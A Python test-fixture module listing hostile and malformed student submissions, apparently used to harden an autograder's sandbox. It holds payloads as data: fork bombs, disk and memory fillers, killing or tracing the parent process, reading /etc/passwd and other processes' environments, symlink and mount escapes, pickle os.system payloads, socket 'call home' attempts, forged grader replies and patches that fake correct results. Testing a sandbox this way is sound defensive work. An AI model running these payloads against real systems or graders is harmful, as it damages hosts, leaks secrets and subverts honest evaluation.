"""Submissions that attack their grader, or are just broken.

Each is after the points of one function: ``perplexity`` (4 points) in the plain lab, ``info_nce`` (4 points) in that
with torch; the other one (``total``, or ``scale``: 1 point) is honest beside it wherever there is one, and may earn its
point. ``@ORACLE@``, ``@OTHERS@``, ``@OUTSIDE@``, ``@SOURCE@``, ``@PORT@`` and ``@SOCKET@`` stand for what the test has
put there to be found: the lab's folder, the folder of submissions, a folder that anybody may write to, losslab's own
source, a port and an abstract socket that something listens on.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile or broken submission.

    Attributes
    ----------
    name
        Of its author.
    code
        What is handed in: the source, or the bytes of the file as they are.
    beside
        Points of the honest function: what they must be, or None where the attack may take them with it.
    torch
        Whether it is a notebook of the lab with torch.
    suffix
        Of the file; by default that of its lab.
    says
        Text that the student must be told, anywhere in the feedback or the log.
    """

    name: str
    code: str | bytes
    beside: float | None = 1
    torch: bool = False
    suffix: str = ""
    says: str = ""


TOTAL = "def total(values):\n    return sum(values)\n\n\n"
SCALE = "def scale(x, factor):\n    return x * factor\n\n\n"
RIGHT_PLAIN = TOTAL + "import math\ndef perplexity(values):\n    return math.exp(sum(values) / len(values))\n"
RIGHT_TORCH = SCALE + textwrap.dedent(
    """
    import torch


    def info_nce(queries, documents, temperature):
        scores = queries @ documents.T / temperature
        return torch.nn.functional.cross_entropy(scores, torch.arange(len(scores)))
    """
)


def plain(name: str, code: str, beside: float | None = 1, says: str = "") -> Attack:
    """A module whose ``total`` is right."""
    return Attack(name, TOTAL + textwrap.dedent(code), beside, says=says)


def torch(name: str, code: str, beside: float | None = 1, says: str = "") -> Attack:
    """A notebook whose ``scale`` is right."""
    return Attack(name, SCALE + textwrap.dedent(code), beside, torch=True, says=says)


# What never ends, or takes all there is ------------------------------------------------------------------------------

GREEDY = [
    plain("endless-loop", "def perplexity(values):\n    while True:\n        pass\n", None, "second"),
    plain("endless-cell", "while True:\n    pass\n", None),
    plain("sleeper", "import time\ndef perplexity(values):\n    time.sleep(10**6)\n", None),
    plain(
        "deaf-to-signals",
        """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        def perplexity(values):
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """,
        None,
    ),
    plain("stopped", "import os, signal\ndef perplexity(values):\n    os.kill(os.getpid(), signal.SIGSTOP)\n", None),
    plain(
        "fork-bomb",
        """
        import os
        def perplexity(values):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """,
        None,
    ),
    plain(
        "threads",
        """
        import threading, time
        def perplexity(values):
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(10**6,)).start()
                except RuntimeError:
                    return 1.0
        """,
        None,
    ),
    plain(
        "memory-hog",
        """
        def perplexity(values):
            held = []
            while True:
                held.append(bytearray(b"x") * 2**26)
        """,
        None,
    ),
    plain(
        "memory-in-children",
        """
        import os, time
        def perplexity(values):
            for _ in range(8):
                if os.fork() == 0:
                    held = bytearray(b"x") * 2**28
                    time.sleep(10**6)
            time.sleep(10**6)
        """,
        None,
    ),
    plain(
        "disk-filler",
        """
        import os
        def perplexity(values):
            for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
                try:
                    for number in range(10**6):
                        with open(f"{folder}/hostile-{number}", "wb") as file:
                            file.write(b"x" * 2**20)
                except OSError:
                    pass
            return 1.0
        """,
    ),
    plain("giant-output", "def perplexity(values):\n    while True:\n        print('x' * 2**20)\n", None),
    plain("giant-error", "def perplexity(values):\n    raise ValueError('x' * 10**8)\n"),
    plain("giant-reply", "def perplexity(values):\n    return 'x' * 2**28\n", None),
    plain("giant-number", "def perplexity(values):\n    return 10 ** (10**7)\n", None),
    plain("recursion", "def perplexity(values):\n    return perplexity(values)\n"),
    plain(
        "deep-recursion",
        """
        import sys
        sys.setrecursionlimit(10**9)
        def perplexity(values):
            return perplexity(values)
        """,
        None,
    ),
    plain(
        "nested-result",
        """
        def perplexity(values):
            found = 1.0
            for _ in range(10**5):
                found = [found]
            return found
        """,
    ),
    plain("loops-in-itself", "def perplexity(values):\n    found = []\n    found.append(found)\n    return found\n"),
    plain(
        "catastrophic-regex",
        "import re\ndef perplexity(values):\n    return re.match('(a+)+$', 'a' * 60 + 'b')\n",
        None,
    ),
]

# What kills or deceives the line to the grader -----------------------------------------------------------------------

#: Sends an answer of its own choice on every open descriptor, in the form that the grader's line has.
FORGE = """
import json, os, struct, sys
def forge(answer, blob=b"", lengths=None):
    text = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
    packed = struct.pack(">IQ", *(lengths or (len(text), len(blob)))) + text + blob
    for descriptor in range(1, 64):
        try:
            os.write(descriptor, packed)
        except OSError:
            pass
"""


def forger(name: str, body: str, beside: float | None = None) -> Attack:
    """A module that writes to the grader's line by itself."""
    return plain(name, FORGE + textwrap.dedent(body), beside)


LINE = [
    plain("exits", "import os\ndef perplexity(values):\n    os._exit(0)\n", None),
    plain("exits-politely", "import sys\ndef perplexity(values):\n    sys.exit(0)\n"),
    plain("exits-while-read", "import os\nos._exit(0)\n", 0),
    plain("crashes", "import ctypes\ndef perplexity(values):\n    ctypes.string_at(0)\n", None),
    plain("closes-everything", "import os\ndef perplexity(values):\n    os.closerange(0, 256)\n    return 1.0\n", None),
    forger("says-ready", 'forge({"ready": True, "value": ["f", 1.0]})\ndef perplexity(values):\n    return 1.0\n'),
    forger(
        "answers-twice",
        """
        def perplexity(values):
            for number in range(1000):
                forge({"id": number, "value": ["f", 1.0]})
            return 1.0
        """,
    ),
    forger("claims-a-huge-answer", "def perplexity(values):\n    forge({}, lengths=(2**32 - 1, 2**63))\n"),
    forger("sends-deep-json", "def perplexity(values):\n    forge(b'[' * 10**6 + b']' * 10**6)\n"),
    forger("sends-no-json", "def perplexity(values):\n    forge(b'\\xff\\x00not json')\n"),
    forger("sends-nan", 'def perplexity(values):\n    forge(b\'{"id": NaN, "value": ["f", NaN]}\')\n'),
    plain(
        "answers-as-the-program",
        """
        import sys
        frame = sys._getframe()
        while frame.f_back:  # up to the program that runs these cells: its line, and the number of the request
            frame = frame.f_back
            held = frame.f_locals
            if "channel" in held:
                channel = held["channel"]
                def perplexity(values):
                    for extra in ({"points": 4}, {"kept": True}, {"verdict": "kept"}, {"value": ["f", float("nan")]}):
                        channel.send({"id": held["request"]["id"], "error": None, "correct": True, **extra})
        """,
        None,
    ),
    plain(
        "rewrites-the-program",
        """
        import sys
        program = sys.modules["__main__"].__dict__
        for name in ("Encoder", "described", "pack", "Channel", "decode"):
            if name in program:
                program[name] = lambda *given, **named: ["f", float("nan")]
        def perplexity(values):
            return float("nan")
        """,
        None,
    ),
    plain(
        "huge-claimed-shape",
        """
        import sys
        program = sys.modules["__main__"].__dict__
        if "Encoder" in program:
            program["Encoder"].__call__ = lambda self, value, depth=0: ["a", "float64", [2**40, 2**40], 0, 8]
        def perplexity(values):
            return 1.0
        """,
        None,
    ),
    plain(
        "arrays-outside-their-bytes",
        """
        import sys
        program = sys.modules["__main__"].__dict__
        if "Encoder" in program:
            program["Encoder"].__call__ = lambda self, value, depth=0: ["a", "float64", [-1], -8, 2**62]
        def perplexity(values):
            return 1.0
        """,
        None,
    ),
    plain(
        "kills-the-parent",
        """
        import os, signal
        def perplexity(values):
            for process in (os.getppid(), 1, -1, 0):
                try:
                    os.kill(process, signal.SIGKILL)
                except OSError:
                    pass
            return 1.0
        """,
        None,
    ),
    plain(
        "traces-the-parent",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def perplexity(values):
            for process in (os.getppid(), 1):
                libc.ptrace(16, process, None, None)
                libc.ptrace(0x4206, process, None, None)
                try:
                    open(f"/proc/{process}/mem", "r+b").close()
                except OSError:
                    pass
            return 1.0
        """,
    ),
    plain(
        "outlives",
        """
        import os, time
        def perplexity(values):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        time.sleep(1)
                os._exit(0)
            return 1.0
        """,
        None,
    ),
    plain(
        "leaves-threads",
        """
        import threading, time
        def idle():
            while True:
                time.sleep(0.1)
        for _ in range(4):
            threading.Thread(target=idle, daemon=False).start()
        def perplexity(values):
            return 1.0
        """,
    ),
    plain(
        "last-words",
        """
        import atexit, os
        class Last:
            def __del__(self):
                os.write(1, b"perplexity: 4 of 4 points")
        last = Last()
        atexit.register(lambda: os.write(1, b"perplexity: 4 of 4 points"))
        def perplexity(values):
            return 1.0
        """,
    ),
]

# What looks where it should not --------------------------------------------------------------------------------------

CURIOUS = [
    plain(
        "reads-the-oracle",
        """
        import sys
        sys.path.insert(0, "@ORACLE@")
        from marking import perplexity
        """,
    ),
    plain(
        "finds-the-oracle",
        """
        import os
        def perplexity(values):
            for where, _, names in os.walk("/"):
                if "marking.py" in names:
                    found = {}
                    exec(open(os.path.join(where, "marking.py")).read(), found)
                    return found["perplexity"](values)
        """,
        None,
    ),
    plain(
        "imports-losslab",
        """
        import sys
        sys.path += ["@SOURCE@", "@SOURCE@/losslab/grading"]
        from losslab.grading import load_lab
        perplexity = load_lab("@ORACLE@").items[1].check.oracle
        """,
    ),
    plain(
        "reads-through-the-parent",
        """
        import glob, os
        def perplexity(values):
            for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd") + ["/proc/self/fd/../../1/root"]:
                try:
                    found = {}
                    exec(open(root + "@ORACLE@/marking.py").read(), found)
                    return found["perplexity"](values)
                except OSError:
                    pass
        """,
    ),
    plain(
        "reads-its-descriptors",
        """
        import os
        def perplexity(values):
            for descriptor in range(3, 64):
                for attempt in (lambda: os.listdir(descriptor), lambda: os.readlink(f"/proc/self/fd/{descriptor}")):
                    try:
                        print(attempt())
                    except OSError:
                        pass
                try:
                    os.fchdir(descriptor)
                    print("inside", os.listdir("."))
                except OSError:
                    pass
            return 1.0
        """,
        None,
    ),
    plain(
        "copies-its-neighbour",
        """
        import glob
        for path in glob.glob("@OTHERS@/*"):
            try:
                text = open(path).read()
                print(text)
                if "exp(sum" in text:
                    exec(text)
            except (OSError, ValueError):
                pass
        """,
    ),
    plain(
        "reads-the-environment",
        """
        import glob, os
        print(dict(os.environ))
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                print(open(path, "rb").read())
            except OSError as problem:
                print(problem)
        def perplexity(values):
            return 1.0
        """,
    ),
    plain(
        "guesses-the-seed",
        """
        import random
        state = random.getstate()  # perhaps the inputs are drawn from here
        def perplexity(values):
            for seed in range(100):
                drawn = [random.Random(seed).uniform(0, 5) for _ in values]
                if drawn == list(values):
                    return 1.0
            random.setstate(state)
            return random.random()
        """,
    ),
    plain(
        "writes-outside",
        """
        import os
        for folder in ("@OUTSIDE@", "@OTHERS@", "@ORACLE@", "/", "/etc", "/usr", "/var/tmp", "/packages", "/python"):
            for attempt in (
                lambda: open(f"{folder}/hostile-was-here", "w").close(),
                lambda: os.symlink("/etc/passwd", f"{folder}/hostile-link"),
                lambda: os.chmod(folder, 0o777),
                lambda: os.remove(f"{folder}/marking.py"),
            ):
                try:
                    attempt()
                except OSError:
                    pass
        def perplexity(values):
            return 1.0
        """,
    ),
    plain(
        "escapes-by-link",
        """
        import os
        for target in ("/proc/1/root", "/proc/self/root", "@ORACLE@", "../../../.."):
            try:
                os.symlink(target, "/tmp/out")
                print(os.listdir("/tmp/out"), open("/tmp/out/marking.py").read())
            except OSError:
                pass
            finally:
                if os.path.islink("/tmp/out"):
                    os.remove("/tmp/out")
        def perplexity(values):
            return 1.0
        """,
    ),
    plain(
        "mounts",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"none", b"/", None, 1 << 18 | 1 << 14, None)
        libc.umount2(b"/tmp", 2)
        try:
            os.setuid(0)
        except OSError:
            pass
        try:
            os.chroot("/tmp")
        except OSError:
            pass
        def perplexity(values):
            return 1.0
        """,
    ),
    plain(
        "calls-home",
        """
        import socket
        def perplexity(values):
            for family, address in (
                (socket.AF_INET, ("127.0.0.1", int("@PORT@"))),
                (socket.AF_UNIX, "\\0@SOCKET@"),
                (socket.AF_INET, ("192.0.2.1", 80)),
            ):
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as line:
                        line.settimeout(1)
                        line.connect(address)
                        line.sendall(b"hostile")
                except OSError as problem:
                    print(problem)
            return 1.0
        """,
    ),
    plain("asks-the-teacher", 'answer = input("What is the perplexity? ")\ndef perplexity(values):\n    return 1.0\n'),
    plain(
        "runs-a-shell",
        """
        import os, subprocess
        os.system("cat /etc/passwd @ORACLE@/marking.py; touch @OUTSIDE@/hostile-shell")
        def perplexity(values):
            return float(subprocess.run(["bc"], input="1", capture_output=True, text=True).stdout)
        """,
    ),
]

# What lies about its result ------------------------------------------------------------------------------------------

LIARS = [
    plain(
        "equal-to-everything",
        """
        class Liar(float):
            def _yes(self, *_):
                return True
            __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = __contains__ = _yes
            def _self(self, *_):
                return self
            __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = __mul__ = __rmul__ = _self
            __truediv__ = __rtruediv__ = __neg__ = __round__ = _self
            __hash__ = float.__hash__
        def perplexity(values):
            return Liar(0.0)
        """,
    ),
    plain(
        "pickled",
        """
        import os, pickle
        class Payload:
            def __reduce__(self):
                return os.system, ("touch @OUTSIDE@/hostile-pickle",)
        def perplexity(values):
            return pickle.dumps(Payload())
        """,
    ),
    plain(
        "payload",
        """
        import os
        class Payload:
            def __reduce__(self):
                return os.system, ("touch @OUTSIDE@/hostile-pickle",)
            def __getattr__(self, name):
                raise SystemExit
        def perplexity(values):
            return Payload()
        """,
    ),
    plain("nan", "def perplexity(values):\n    return float('nan')\n"),
    plain("infinity", "def perplexity(values):\n    return float('inf')\n"),
    plain("text", "import math\ndef perplexity(values):\n    return str(math.exp(sum(values) / len(values)))\n"),
    plain(
        "complex", "import math\ndef perplexity(values):\n    return complex(math.exp(sum(values) / len(values)), 0)\n"
    ),
    plain("nothing", "def perplexity(values):\n    pass\n"),
    plain("list", "import math\ndef perplexity(values):\n    return [math.exp(sum(values) / len(values))]\n"),
    plain("empty-list", "def perplexity(values):\n    return []\n"),
    plain("boolean", "def perplexity(values):\n    return True\n"),
    plain("generator", "def perplexity(values):\n    yield 1.0\n"),
    plain("refuses-everything", "def perplexity(values):\n    raise ValueError('values must be right')\n"),
    plain("no-function", "perplexity = 4.0\n"),
    plain(
        "changes-its-input",
        "def perplexity(values):\n    values.clear()\n    values.append(0.0)\n    return 1.0\n",
    ),
    plain(
        "replaces-builtins",
        """
        import builtins, math
        builtins.abs = builtins.max = lambda *_, **__: 0.0
        builtins.all = builtins.isinstance = lambda *_: True
        builtins.float = builtins.len = lambda *_: 1
        math.isclose = lambda *_, **__: True
        def perplexity(values):
            return 1.0
        """,
        None,
    ),
    torch(
        "lying-tensor",
        """
        import torch
        class Liar(torch.Tensor):
            def detach(self):
                return self
            def __eq__(self, other):
                return torch.ones(()) > 0
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function.__name__ in ("allclose", "equal", "isclose"):
                    return True
                return super().__torch_function__(function, types, args, kwargs or {})
        def info_nce(queries, documents, temperature):
            return torch.zeros((), requires_grad=True).as_subclass(Liar)
        """,
    ),
    torch(
        "patches-torch",
        """
        import torch
        torch.allclose = torch.equal = lambda *_, **__: True
        torch.testing.assert_close = lambda *_, **__: None
        torch.isclose = lambda a, b, **__: torch.ones_like(a, dtype=torch.bool)
        torch.Tensor.__sub__ = torch.Tensor.sub = lambda self, other: torch.zeros_like(self)
        torch.Tensor.allclose = lambda *_, **__: True
        torch.Tensor.tolist = lambda self: [0.0]
        def info_nce(queries, documents, temperature):
            return queries.sum() * 0
        """,
    ),
    torch(
        "patches-the-checker",
        """
        import sys, types
        for name in ("losslab", "losslab.grading", "losslab.contracts", "losslab.labs", "hypothesis", "pytest"):
            module = types.ModuleType(name)
            module.mark = module.check = module.agrees = lambda *_, **__: True
            sys.modules[name] = module
        def info_nce(queries, documents, temperature):
            return queries.sum() * 0
        """,
    ),
    torch("empty-tensor", "def info_nce(queries, documents, temperature):\n    return (queries[:0] * 0).sum(1)\n"),
    torch(
        "one-too-many",
        """
        import torch
        def info_nce(queries, documents, temperature):
            scores = queries @ documents.T / temperature
            value = torch.nn.functional.cross_entropy(scores, torch.arange(len(scores)))
            return value.expand(3)
        """,
    ),
    torch(
        "right-value-wrong-gradient",
        """
        import torch
        def info_nce(queries, documents, temperature):
            scores = queries @ documents.T / temperature
            value = torch.nn.functional.cross_entropy(scores, torch.arange(len(scores)))
            return value.detach() + 0 * queries.sum()
        """,
    ),
    torch(
        "complex-tensor",
        """
        import torch
        def info_nce(queries, documents, temperature):
            scores = queries @ documents.T / temperature
            return torch.nn.functional.cross_entropy(scores, torch.arange(len(scores))) + 0j
        """,
    ),
    torch(
        "tensor-of-terabytes",
        """
        import torch
        def info_nce(queries, documents, temperature):
            return queries.sum().expand(2**20, 2**20)
        """,
        None,
    ),
    torch(
        "meta-tensor",
        "import torch\ndef info_nce(queries, documents, temperature):\n    return torch.empty((), device='meta')\n",
    ),
    torch(
        "lost-in-backward",
        """
        import torch
        class Endless(torch.autograd.Function):
            @staticmethod
            def forward(ctx, queries):
                return queries.sum()
            @staticmethod
            def backward(ctx, gradient):
                while True:
                    pass
        def info_nce(queries, documents, temperature):
            return Endless.apply(queries)
        """,
        None,
    ),
    torch(
        "learns-from-its-calls",
        """
        import torch
        calls = []
        def info_nce(queries, documents, temperature):
            calls.append(queries)
            return queries.sum() * 0 + len(calls)
        """,
    ),
]

# What is no submission -----------------------------------------------------------------------------------------------

BROKEN = [
    Attack("syntax-error", "def perplexity(values)\n    return 1.0\n", 0),
    Attack("empty-file", b"", 0, says="empty"),
    Attack("null-bytes", b"def perplexity(values):\n    return 1.0\0\n", 0),
    Attack("not-utf-8", b"\xff\xfe\x00d\xe9f perplexity", 0),
    Attack("not-a-notebook", b"%PDF-1.7 this is no notebook", 0, torch=True, says="not a notebook"),
    Attack("empty-notebook", b"", 0, torch=True, says="empty"),
    Attack("notebook-of-lists", b"[[[[]]]]", 0, torch=True),
    Attack("deep-notebook", b"[" * 200_000 + b"]" * 200_000, 0, torch=True),
    Attack("notebook-without-cells", b'{"cells": null, "nbformat": 4, "nbformat_minor": 5}', 0, torch=True),
    Attack("notebook-of-the-future", b'{"cells": [], "nbformat": 99, "nbformat_minor": 0}', 0, torch=True),
    Attack("cells-of-numbers", b'{"cells": [7, {"cell_type": "code", "source": 7}], "nbformat": 4}', 0, torch=True),
    Attack("huge-notebook", b"", 0, torch=True, says="MiB"),  # the test makes 50 MB of it
    Attack("a-picture", b"\x89PNG\r\n\x1a\n", 0, suffix=".png"),
    Attack("magics", "%matplotlib inline\n!touch @OUTSIDE@/hostile-magic\n" + SCALE, 1, torch=True),
    plain(
        "shadows-the-library",
        """
        import importlib, sys
        sys.path.insert(0, "/tmp")
        open("/tmp/json.py", "w").write("dumps = lambda *_, **__: 1/0")
        sys.modules.pop("json", None)
        import json, math
        math.exp = lambda x: 1.0
        def perplexity(values):
            return math.exp(0)
        """,
        None,
    ),
]

ATTACKS = [*GREEDY, *LINE, *CURIOUS, *LIARS, *BROKEN]
